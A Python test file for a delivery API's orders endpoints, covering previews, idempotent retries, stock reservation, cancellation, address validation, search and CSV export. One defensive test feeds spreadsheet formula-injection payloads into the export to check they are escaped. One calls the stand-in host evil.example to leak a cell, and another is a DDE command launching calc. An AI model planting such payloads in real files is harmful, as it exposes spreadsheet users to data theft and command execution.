"""Placing, reading, listing, cancelling and exporting orders through the API."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from doorstep.models import (
    InventoryLevel,
    Node,
    Order,
    OutboxEvent,
    Package,
    PackageEvent,
    Product,
)
from doorstep.orders import views
from doorstep.orders.lifecycle import PackageState
from doorstep.orders.schemas import OrderIn
from tests.shop import DOWNTOWN_CHANDLER, NORTH_PHOENIX, Shop, local, open_shop

RECIPIENT = {"name": "Ana Ruiz", "phone": "+1 480 555 0101", "email": "ana@example.com"}


@pytest.fixture
def shop(session: Session, client: TestClient) -> Shop:
    shop = open_shop(session)
    session.commit()
    client.app.state.clock = lambda: local(10)  # type: ignore[attr-defined]
    return shop


def _reserved(session: Session, sku: str, node: str) -> int:
    return session.scalars(
        select(InventoryLevel.reserved)
        .join(Product, Product.id == InventoryLevel.product_id)
        .join(Node, Node.id == InventoryLevel.node_id)
        .where(Product.sku == sku, Node.code == node)
    ).one()


def _preview(client: TestClient, shop: Shop, items: list[dict[str, Any]]) -> dict[str, Any]:
    response = client.post(
        "/v1/delivery-previews",
        json={"items": items, "destination": DOWNTOWN_CHANDLER},
        headers=shop.headers(publishable=True),
    )
    assert response.status_code == 201, response.json()
    body: dict[str, Any] = response.json()
    return body


def _order(client: TestClient, shop: Shop, body: dict[str, Any], key: str | None = None) -> Any:
    headers = shop.headers() | ({"Idempotency-Key": key} if key else {})
    return client.post("/v1/orders", json=body, headers=headers)


def test_order_from_a_preview_keeps_its_promise_and_reserves_stock(
    client: TestClient, session: Session, shop: Shop
) -> None:
    preview = _preview(
        client, shop, [{"sku": "PAN-28", "quantity": 2}, {"sku": "KETTLE-1", "quantity": 1}]
    )
    response = _order(
        client,
        shop,
        {
            "preview_id": preview["id"],
            "option_id": "same_day",
            "recipient": RECIPIENT,
            "payment_reference": "pi_123",
        },
    )
    assert response.status_code == 201, response.json()
    order = response.json()
    assert order["id"].startswith("ord_")
    assert order["speed"] == "same_day"
    assert order["promised_by"] == preview["options"][0]["promised_by"]
    assert order["fee_cents"] == 599
    assert order["payment_reference"] == "pi_123"
    assert {p["ships_from"]: p["channel"] for p in order["packages"]} == {
        "MCFC-KITCHEN": "store_pickup",
        "WTE1": "station_route",
    }
    assert all(p["state"] == "created" for p in order["packages"])
    assert _reserved(session, "PAN-28", "MCFC-KITCHEN") == 2
    assert _reserved(session, "KETTLE-1", "WTE1") == 1
    events = session.scalars(select(OutboxEvent).order_by(OutboxEvent.id)).all()
    assert [e.event_type for e in events] == ["order.created", "package.created", "package.created"]
    placed = session.scalars(select(Order).where(Order.public_id == order["id"])).one()
    assert {(e.merchant_id, e.ordering_key) for e in events} == {
        (placed.merchant_id, f"order:{placed.id}")
    }
    # Each package's history starts with one row: created, from no state, for no reason.
    history = session.scalars(
        select(PackageEvent).join(Package).where(Package.order_id == placed.id)
    ).all()
    assert (
        sorted((e.sequence, e.from_state, e.to_state, e.reason, e.data) for e in history)
        == [
            (1, None, PackageState.CREATED, None, {}),
        ]
        * 2
    )
    assert {e.actor for e in history} == {f"merchant:{placed.merchant_id}"}


def test_order_from_a_basket_and_speed(client: TestClient, session: Session, shop: Shop) -> None:
    response = _order(
        client,
        shop,
        {
            "items": [{"sku": "PAN-28", "quantity": 1}],
            "destination": DOWNTOWN_CHANDLER,
            "speed": "next_day",
            "recipient": RECIPIENT,
        },
    )
    assert response.status_code == 201, response.json()
    assert response.json()["promised_by"] == local(21, day=25).isoformat().replace("+00:00", "Z")


def test_retry_with_the_same_key_returns_the_same_order(
    client: TestClient, session: Session, shop: Shop
) -> None:
    body = {
        "items": [{"sku": "PAN-28", "quantity": 3}],
        "destination": DOWNTOWN_CHANDLER,
        "speed": "same_day",
        "recipient": RECIPIENT,
    }
    first = _order(client, shop, body, key="checkout-42")
    second = _order(client, shop, body, key="checkout-42")
    assert (first.status_code, second.status_code) == (201, 200)
    assert second.headers["Idempotent-Replayed"] == "true"
    assert first.json()["id"] == second.json()["id"]
    assert session.scalar(select(func.count()).select_from(Order)) == 1
    assert _reserved(session, "PAN-28", "MCFC-KITCHEN") == 3


def test_a_retry_spelling_out_a_default_or_placed_by_the_previous_release_is_the_same_order(
    client: TestClient, session: Session, shop: Shop
) -> None:
    body: dict[str, Any] = {
        "items": [{"sku": "PAN-28", "quantity": 1}],
        "destination": DOWNTOWN_CHANDLER,
        "speed": "same_day",
        "recipient": RECIPIENT,
    }
    first = _order(client, shop, body, key="k-defaults")
    assert first.status_code == 201
    # The same request with a default written out (country "US") is the same request.
    spelled = {**body, "destination": {**DOWNTOWN_CHANDLER, "country": "US"}}
    assert _order(client, shop, spelled, key="k-defaults").json()["id"] == first.json()["id"]
    # An order stored by the previous release carries the fingerprint of every field.
    order = session.scalars(select(Order).where(Order.idempotency_key == "k-defaults")).one()
    order.request_fingerprint = hashlib.sha256(
        json.dumps(
            OrderIn.model_validate(body).model_dump(mode="json"),
            sort_keys=True,
            separators=(",", ":"),
        ).encode()
    ).hexdigest()
    session.commit()
    again = _order(client, shop, body, key="k-defaults")
    assert (again.status_code, again.json()["id"]) == (200, first.json()["id"])


def test_a_retry_after_the_last_unit_sold_still_gets_its_order(
    client: TestClient, session: Session, shop: Shop
) -> None:
    # The first attempt took the kettles; its answer was lost. The retry's promise can no
    # longer be kept (no stock left), yet it is the same order, not an out-of-stock error.
    on_hand = session.scalar(
        select(InventoryLevel.on_hand)
        .join(Product)
        .join(Node)
        .where(Product.sku == "KETTLE-1", Node.code == "WTE1")
    )
    assert on_hand is not None
    body = {
        "items": [{"sku": "KETTLE-1", "quantity": on_hand}],
        "destination": DOWNTOWN_CHANDLER,
        "speed": "two_day",
        "recipient": RECIPIENT,
    }
    first = _order(client, shop, body, key="k-last-kettles")
    assert first.status_code == 201, first.json()
    retry = _order(client, shop, body, key="k-last-kettles")
    assert (retry.status_code, retry.json()["id"]) == (200, first.json()["id"])
    other = _order(client, shop, body, key="k-someone-else")
    assert (other.status_code, other.json()["error"]) == (409, "out_of_stock")


def test_the_same_key_with_another_body_is_a_409(
    client: TestClient, session: Session, shop: Shop
) -> None:
    body = {
        "items": [{"sku": "PAN-28", "quantity": 1}],
        "destination": DOWNTOWN_CHANDLER,
        "speed": "same_day",
        "recipient": RECIPIENT,
    }
    assert _order(client, shop, body, key="k1").status_code == 201
    body["items"] = [{"sku": "PAN-28", "quantity": 2}]
    reused = _order(client, shop, body, key="k1")
    assert (reused.status_code, reused.json()["error"]) == (409, "idempotency_key_reused")
    assert _reserved(session, "PAN-28", "MCFC-KITCHEN") == 1


def test_out_of_stock_reserves_nothing_and_writes_nothing(
    client: TestClient, session: Session, shop: Shop
) -> None:
    body = {
        "items": [{"sku": "PAN-28", "quantity": 1}, {"sku": "KETTLE-1", "quantity": 9}],
        "destination": DOWNTOWN_CHANDLER,
        "speed": "next_day",
        "recipient": RECIPIENT,
    }
    response = _order(client, shop, body)
    assert (response.status_code, response.json()["error"]) == (409, "out_of_stock")
    assert "KETTLE-1" in response.json()["detail"]
    assert session.scalar(select(func.count()).select_from(Order)) == 0
    assert session.scalar(select(func.count()).select_from(Package)) == 0
    assert _reserved(session, "PAN-28", "MCFC-KITCHEN") == 0


def test_stock_taken_after_the_preview_is_still_checked(
    client: TestClient, session: Session, shop: Shop
) -> None:
    preview = _preview(client, shop, [{"sku": "KETTLE-1", "quantity": 5}])
    other = _order(
        client,
        shop,
        {
            "items": [{"sku": "KETTLE-1", "quantity": 1}],
            "destination": DOWNTOWN_CHANDLER,
            "speed": "two_day",
            "recipient": RECIPIENT,
        },
    )
    assert other.status_code == 201
    late = _order(
        client, shop, {"preview_id": preview["id"], "option_id": "next_day", "recipient": RECIPIENT}
    )
    assert (late.status_code, late.json()["error"]) == (409, "out_of_stock")
    assert _reserved(session, "KETTLE-1", "WTE1") == 1


def test_expired_and_unknown_previews(client: TestClient, shop: Shop) -> None:
    preview = _preview(client, shop, [{"sku": "PAN-28", "quantity": 1}])
    client.app.state.clock = lambda: local(10, 11)  # type: ignore[attr-defined]
    expired = _order(
        client, shop, {"preview_id": preview["id"], "option_id": "same_day", "recipient": RECIPIENT}
    )
    assert (expired.status_code, expired.json()["error"]) == (410, "preview_expired")
    unknown = _order(
        client, shop, {"preview_id": "dp_nope", "option_id": "same_day", "recipient": RECIPIENT}
    )
    assert (unknown.status_code, unknown.json()["error"]) == (404, "preview_not_found")


def test_an_option_the_preview_did_not_offer(client: TestClient, shop: Shop) -> None:
    client.app.state.clock = lambda: local(16)  # type: ignore[attr-defined]
    preview = _preview(client, shop, [{"sku": "PAN-28", "quantity": 1}])
    response = _order(
        client, shop, {"preview_id": preview["id"], "option_id": "same_day", "recipient": RECIPIENT}
    )
    assert (response.status_code, response.json()["error"]) == (409, "speed_unavailable")
    assert "cut-off" in response.json()["detail"]


NEW_YORK = {"lat": 40.7484, "lng": -73.9857, "address": "350 5th Ave", "postal_code": "10118"}


@pytest.mark.parametrize(
    ("destination", "field"),
    [
        (NEW_YORK, "destination.lat"),
        (DOWNTOWN_CHANDLER | {"lng": -111.7}, "destination.lng"),  # 13 km east
        (DOWNTOWN_CHANDLER | {"postal_code": "10118"}, "destination.postal_code"),
    ],
)
def test_an_order_from_a_preview_goes_where_the_preview_was_made_for(
    client: TestClient, session: Session, shop: Shop, destination: dict[str, Any], field: str
) -> None:
    preview = client.post(
        "/v1/delivery-previews",
        json={
            "items": [{"sku": "PAN-28", "quantity": 1}],
            "destination": DOWNTOWN_CHANDLER | {"postal_code": "85225"},
        },
        headers=shop.headers(publishable=True),
    ).json()
    assert preview["options"][0]["id"] == "same_day"
    response = _order(
        client,
        shop,
        {
            "preview_id": preview["id"],
            "option_id": "same_day",
            "destination": destination,
            "recipient": RECIPIENT,
        },
    )
    assert response.status_code == 409, response.json()
    assert response.json()["error"] == "order_differs_from_preview"
    assert response.json()["context"] == {"field": field, "preview_id": preview["id"]}
    assert session.scalar(select(func.count()).select_from(Order)) == 0
    assert _reserved(session, "PAN-28", "MCFC-KITCHEN") == 0


def test_an_order_from_a_preview_adds_the_street_address_to_the_preview_s_point(
    client: TestClient, session: Session, shop: Shop
) -> None:
    preview = client.post(
        "/v1/delivery-previews",
        json={
            "items": [{"sku": "PAN-28", "quantity": 1}],
            "destination": {"lat": 33.3035, "lng": -111.841, "postal_code": "85225"},
        },
        headers=shop.headers(publishable=True),
    ).json()
    street = {
        "lat": 33.30350000001,  # the same point, as another client's floats print it
        "lng": -111.841,
        "address": "1 E Chicago St",
        "city": "Chandler",
        "state": "AZ",
    }
    response = _order(
        client,
        shop,
        {
            "preview_id": preview["id"],
            "option_id": "same_day",
            "destination": street,
            "recipient": RECIPIENT,
        },
    )
    assert response.status_code == 201, response.json()
    destination = response.json()["destination"]
    assert (destination["lat"], destination["lng"]) == (33.3035, -111.841)
    assert (destination["address"], destination["postal_code"]) == ("1 E Chicago St", "85225")
    assert session.scalars(select(Order.dest_postal_code)).one() == "85225"


def _two_day(destination: dict[str, Any]) -> dict[str, Any]:
    return {
        "items": [{"sku": "PAN-28", "quantity": 1}],
        "destination": destination,
        "speed": "two_day",
        "recipient": RECIPIENT,
    }


def test_a_structured_address_is_kept_and_returned(
    client: TestClient, session: Session, shop: Shop
) -> None:
    destination = {
        "lat": 33.3035,
        "lng": -111.841,
        "address": "1 E Chicago St",
        "address_line2": " Apt 4 ",
        "city": "Chandler",
        "state": "az",
        "postal_code": "85225",
    }
    response = _order(client, shop, _two_day(destination))
    assert response.status_code == 201, response.json()
    expected = destination | {"address_line2": "Apt 4", "state": "AZ", "country": "US"}
    assert response.json()["destination"] == expected
    fetched = client.get(f"/v1/orders/{response.json()['id']}", headers=shop.headers())
    assert fetched.json()["destination"] == expected
    order = session.scalars(select(Order)).one()
    assert (order.dest_address, order.dest_address_line2) == ("1 E Chicago St", "Apt 4")
    assert (order.dest_city, order.dest_state, order.dest_country) == ("Chandler", "AZ", "US")
    assert order.full_address == "1 E Chicago St, Apt 4, Chandler, AZ 85225"
    [row] = csv.DictReader(io.StringIO(client.get("/v1/orders.csv", headers=shop.headers()).text))
    assert (row["city"], row["state"], row["postal_code"], row["country"]) == (
        "Chandler",
        "AZ",
        "85225",
        "US",
    )


def test_an_address_without_city_and_state_still_makes_an_order(
    client: TestClient, session: Session, shop: Shop
) -> None:
    response = _order(client, shop, _two_day(DOWNTOWN_CHANDLER))
    assert response.status_code == 201, response.json()
    assert response.json()["destination"]["city"] is None
    assert response.json()["destination"]["country"] == "US"
    order = session.scalars(select(Order)).one()
    assert not order.has_structured_address
    assert order.full_address == DOWNTOWN_CHANDLER["address"]


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("state", "Arizona", "two-letter state"),
        ("state", "A1", "two-letter state"),
        ("country", "USA", "two-letter ISO 3166-1 country code"),
        ("city", "x" * 101, "at most 100 characters"),
        ("address_line2", "x" * 201, "at most 200 characters"),
    ],
)
def test_a_bad_address_field_is_a_422_that_names_it(
    client: TestClient, shop: Shop, field: str, value: str, message: str
) -> None:
    destination = DOWNTOWN_CHANDLER | {"city": "Chandler", "state": "AZ", "postal_code": "85225"}
    response = _order(client, shop, _two_day(destination | {field: value}))
    assert (response.status_code, response.json()["error"]) == (422, "validation_error")
    [problem] = response.json()["detail"]
    assert problem["field"] == f"body.destination.{field}"
    assert message in problem["message"]


def test_bad_orders_name_the_problem(client: TestClient, shop: Shop) -> None:
    outside = _order(
        client,
        shop,
        {
            "items": [{"sku": "PAN-28", "quantity": 1}],
            "destination": NORTH_PHOENIX,
            "speed": "two_day",
            "recipient": RECIPIENT,
        },
    )
    assert (outside.status_code, outside.json()["error"]) == (422, "outside_service_area")
    no_address = _order(
        client,
        shop,
        {
            "items": [{"sku": "PAN-28", "quantity": 1}],
            "destination": {"lat": 33.3035, "lng": -111.841},
            "speed": "two_day",
            "recipient": RECIPIENT,
        },
    )
    assert no_address.json()["error"] == "address_missing"
    mixed = _order(
        client,
        shop,
        {
            "preview_id": "dp_x",
            "option_id": "same_day",
            "speed": "same_day",
            "recipient": RECIPIENT,
        },
    )
    assert (mixed.status_code, mixed.json()["error"]) == (422, "validation_error")
    publishable = client.post("/v1/orders", json={}, headers=shop.headers(publishable=True))
    assert publishable.status_code == 403


def test_a_sku_named_twice_is_refused_and_reserves_nothing(
    client: TestClient, session: Session, shop: Shop
) -> None:
    twice = [{"sku": "PAN-28", "quantity": 1}, {"sku": "PAN-28", "quantity": 2}]
    order = _order(
        client,
        shop,
        {
            "items": twice,
            "destination": DOWNTOWN_CHANDLER,
            "speed": "same_day",
            "recipient": RECIPIENT,
        },
    )
    preview = client.post(
        "/v1/delivery-previews",
        json={"items": twice, "destination": DOWNTOWN_CHANDLER},
        headers=shop.headers(publishable=True),
    )
    for response in (order, preview):
        assert (response.status_code, response.json()["error"]) == (422, "validation_error")
        [problem] = response.json()["detail"]
        assert problem["field"] == "body.items"
        assert "'PAN-28' appears twice" in problem["message"]
    assert session.scalar(select(func.count()).select_from(Order)) == 0
    assert _reserved(session, "PAN-28", "MCFC-KITCHEN") == 0


def test_cancel_releases_stock_once_and_refuses_after_pickup(
    client: TestClient, session: Session, shop: Shop
) -> None:
    body = {
        "items": [{"sku": "PAN-28", "quantity": 2}],
        "destination": DOWNTOWN_CHANDLER,
        "speed": "same_day",
        "recipient": RECIPIENT,
    }
    first = _order(client, shop, body).json()
    second = _order(client, shop, body).json()
    assert _reserved(session, "PAN-28", "MCFC-KITCHEN") == 4
    cancelled = client.post(f"/v1/orders/{first['id']}/cancel", headers=shop.headers())
    assert cancelled.status_code == 200
    assert cancelled.json()["status"] == "cancelled"
    assert {p["state"] for p in cancelled.json()["packages"]} == {"cancelled"}
    again = client.post(f"/v1/orders/{first['id']}/cancel", headers=shop.headers())
    assert again.status_code == 200
    session.expire_all()
    assert _reserved(session, "PAN-28", "MCFC-KITCHEN") == 2
    # The second order's package is picked up: too late to cancel.
    package = session.scalars(
        select(Package).where(Package.tracking_code == second["packages"][0]["tracking_code"])
    ).one()
    from doorstep.orders.lifecycle import PackageState
    from doorstep.orders.transitions import transition_package

    for state in (PackageState.READY_FOR_PICKUP, PackageState.ASSIGNED, PackageState.PICKED_UP):
        transition_package(session, package, state, actor="test")
    session.commit()
    late = client.post(f"/v1/orders/{second['id']}/cancel", headers=shop.headers())
    assert (late.status_code, late.json()["error"]) == (409, "order_not_cancellable")
    assert "picked_up" in late.json()["detail"]


def test_list_search_paginate_and_export(client: TestClient, shop: Shop) -> None:
    for number in range(5):
        body = {
            "items": [{"sku": "PAN-28", "quantity": 1}],
            "destination": DOWNTOWN_CHANDLER,
            "speed": "two_day",
            "recipient": {"name": f"Customer {number}"},
            "merchant_reference": f"CP-{1000 + number}",
        }
        assert _order(client, shop, body).status_code == 201
    first = client.get("/v1/orders?limit=2", headers=shop.headers()).json()
    assert [o["merchant_reference"] for o in first["data"]] == ["CP-1004", "CP-1003"]
    second = client.get(
        f"/v1/orders?limit=2&cursor={first['next_cursor']}", headers=shop.headers()
    ).json()
    third = client.get(
        f"/v1/orders?limit=2&cursor={second['next_cursor']}", headers=shop.headers()
    ).json()
    assert [o["merchant_reference"] for o in second["data"] + third["data"]] == [
        "CP-1002",
        "CP-1001",
        "CP-1000",
    ]
    assert third["next_cursor"] is None
    found = client.get("/v1/orders?q=customer 3", headers=shop.headers()).json()["data"]
    assert [o["merchant_reference"] for o in found] == ["CP-1003"]
    assert client.get("/v1/orders?cursor=%%%", headers=shop.headers()).status_code == 422
    export = client.get("/v1/orders.csv?status=confirmed", headers=shop.headers())
    assert export.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert len(rows) == 5
    assert rows[0]["items"] == "1 x PAN-28"
    assert rows[0]["packages"].endswith(":created")


def test_search_wildcards_match_only_themselves(client: TestClient, shop: Shop) -> None:
    for number, reference in enumerate(("CP-50%", "CP-500", "A_B", "AXB", "back\\slash")):
        body = {
            "items": [{"sku": "PAN-28", "quantity": 1}],
            "destination": DOWNTOWN_CHANDLER,
            "speed": "two_day",
            "recipient": {"name": f"Customer {number}"},
            "merchant_reference": reference,
        }
        assert _order(client, shop, body).status_code == 201

    def found(query: str) -> list[str]:
        for path in ("/v1/orders", "/v1/orders.csv"):
            response = client.get(path, params={"q": query}, headers=shop.headers())
            assert response.status_code == 200, response.text
        data = client.get("/v1/orders", params={"q": query}, headers=shop.headers()).json()
        return sorted(o["merchant_reference"] for o in data["data"])

    # Before, % and _ were wildcards: "50%" also found CP-500, "a_b" also AXB, "%" everything.
    assert found("50%") == ["CP-50%"]
    assert found("a_b") == ["A_B"]
    assert found("%") == ["CP-50%"]
    assert found("k\\s") == ["back\\slash"]


# What a shopper or a merchant's page may type that a spreadsheet would run as a formula.
FORMULAS = {
    "recipient_name": '=HYPERLINK("http://evil.example/?"&A1,"Ana")',
    "recipient_phone": "+1 480 555 0101",
    "recipient_email": "-2+3@example.com",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "merchant_reference": '=1+2";=1+2',
    "payment_reference": "-1",
}


def test_the_csv_export_shows_formulas_as_text(client: TestClient, shop: Shop) -> None:
    body = {
        "items": [{"sku": "PAN-28", "quantity": 1}],
        "destination": DOWNTOWN_CHANDLER | {"address": FORMULAS["address"]},
        "speed": "same_day",
        "recipient": {
            "name": FORMULAS["recipient_name"],
            "phone": FORMULAS["recipient_phone"],
            "email": FORMULAS["recipient_email"],
        },
        "merchant_reference": FORMULAS["merchant_reference"],
        "payment_reference": FORMULAS["payment_reference"],
    }
    assert _order(client, shop, body).status_code == 201
    export = client.get("/v1/orders.csv", headers=shop.headers()).text
    [row] = csv.DictReader(io.StringIO(export))
    assert {column: row[column] for column in FORMULAS} == {
        column: f"'{value}" for column, value in FORMULAS.items()
    }
    # Every cell is quoted, so a separator inside one cannot start another.
    assert all(line.startswith('"') and line.endswith('"') for line in export.splitlines())


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_start_a_formula_is_escaped(start: str) -> None:
    assert views.csv_cell(f"{start}cmd") == f"'{start}cmd"
    assert views.csv_cell(f"x{start}cmd") == f"x{start}cmd"


def test_a_moment_without_a_time_zone_is_read_as_utc(client: TestClient, shop: Shop) -> None:
    body = _two_day(DOWNTOWN_CHANDLER)
    assert _order(client, shop, body).status_code == 201  # placed at 17:00 UTC
    for path in ("/v1/orders", "/v1/orders.csv"):
        counts = []
        for moment in ("2026-11-24T17:00:00", "2026-11-24T17:00:00Z", "2026-11-24T17:00:01"):
            response = client.get(path, params={"created_from": moment}, headers=shop.headers())
            assert response.status_code == 200, response.text
            if path.endswith(".csv"):
                counts.append(len(list(csv.DictReader(io.StringIO(response.text)))))
            else:
                counts.append(len(response.json()["data"]))
        assert counts == [1, 1, 0]
        before = client.get(
            path, params={"created_to": "2026-11-24T10:00:00-07:00"}, headers=shop.headers()
        )
        assert before.status_code == 200


def test_orders_are_private_to_their_merchant(
    client: TestClient, session: Session, shop: Shop
) -> None:
    from doorstep.merchants.service import create_merchant

    other = create_merchant(session, "Someone Else")
    session.commit()
    order = _order(
        client,
        shop,
        {
            "items": [{"sku": "PAN-28", "quantity": 1}],
            "destination": DOWNTOWN_CHANDLER,
            "speed": "two_day",
            "recipient": RECIPIENT,
        },
    ).json()
    headers = {"Authorization": f"Bearer {other.secret_key.plaintext}"}
    response = client.get(f"/v1/orders/{order['id']}", headers=headers)
    assert (response.status_code, response.json()["error"]) == (404, "order_not_found")
    assert client.get("/v1/orders", headers=headers).json()["data"] == []
